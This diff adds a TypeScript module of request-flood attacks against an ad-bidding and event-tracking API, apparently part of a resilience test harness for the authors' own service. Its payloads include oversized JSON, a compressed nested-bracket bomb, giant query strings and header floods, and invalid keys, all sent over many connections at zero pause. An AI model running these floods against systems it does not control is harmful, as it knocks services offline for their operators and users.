@@ -1,0 +1,54 @@
+import { gzipSync } from 'node:zlib';
+import { again, type Attack, besiege, json, keyed, pathOf, requestOf, type Target } from '../attack.js';
+
+const filled = (bytes: number, item: (i: number) => string): string => {
+  let text = '';
+  for (let i = 0; text.length < bytes; i++) text += `${item(i)},`;
+  return text.slice(0, -1);
+};
+const adRequest = `{${filled(60_000, (i) => `"p${i}":{"a":${i}}`)}}`;
+
+const flood = (name: string, connections: number, requestFor: (target: Target, index: number) => Buffer): Attack => ({
+  name,
+  run: (target, seconds) =>
+    besiege(target, { seconds, connections, pauseMs: 0 }, (socket, index) => {
+      again(socket, requestFor(target, index));
+    }),
+});
+
+/** Many requests, each of which costs as much as it can. */
+export const floods: Attack[] = [
+  flood('ad requests of 60 KB', 64, () => requestOf('POST /api/rtb/ad', json, adRequest)),
+  flood('compressed ad requests', 300, () =>
+    requestOf('POST /api/rtb/ad', { ...json, 'content-encoding': 'gzip' }, gzipSync(`[${'['.repeat(60_000)}`)),
+  ),
+  flood('push callbacks with tokens that do not open', 300, () =>
+    requestOf(`GET /api/tracker/general/click?token=${'A'.repeat(4_000)}&url=${'%F0%9F%8C%B9'.repeat(500)}`),
+  ),
+  flood('callbacks with a thousand parameters', 64, () =>
+    requestOf(`GET /api/tracker/general/open?${'a=%61&'.repeat(2_500)}`),
+  ),
+  flood('keys that are none', 256, (target) =>
+    requestOf(pathOf(target, 'track'), { ...keyed(target), authorization: 'Bearer x' }, '{"userId":"u","event":"e"}'),
+  ),
+  flood('sources that are none', 256, (target) =>
+    requestOf(pathOf({ ...target, sourceIdentifier: 'AAAAAAAAAAAA' }, 'track'), keyed(target), '{}'),
+  ),
+  flood('sixteen kilobytes of short headers', 64, () =>
+    requestOf('GET /', Object.fromEntries(Array.from({ length: 1_500 }, (_, i) => [`a${i}`, '']))),
+  ),
+  flood('Prefer with spaces', 16, (target) =>
+    requestOf(
+      pathOf(target, 'trackBatch'),
+      { ...keyed(target), prefer: `handling=${' '.repeat(15_000)}x y` },
+      '{"list":[{"userId":"u","event":5}]}',
+    ),
+  ),
+  flood('batches of bad names', 8, (target) =>
+    requestOf(
+      pathOf(target, 'trackBatch'),
+      keyed(target),
+      `{"list":[{"userId":"u","event":"e","properties":{${filled(700_000, (i) => `" ${i}":1`)}}}]}`,
+    ),
+  ),
+];
